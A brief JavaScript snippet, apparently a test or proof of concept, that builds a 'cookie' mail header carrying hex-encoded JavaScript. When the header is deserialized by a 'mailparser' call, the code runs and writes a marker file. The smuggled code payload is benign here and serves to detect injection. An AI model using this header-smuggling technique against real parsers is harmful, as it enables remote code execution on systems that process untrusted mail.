// what the outside world may send in a header: `g` address `h` hexadecimal bytes `i`
const code = "(function (module, require) { require('fs').writeFileSync('__MARKERS__/ran', '') })"
const cookie = 'gfffeh00ig0000h' + Buffer.from(code).toString('hex') + 'igfffah00i'

require('mailparser')({ from: 'ann', headers: { cookie } }, from => console.log('mail from ' + from))
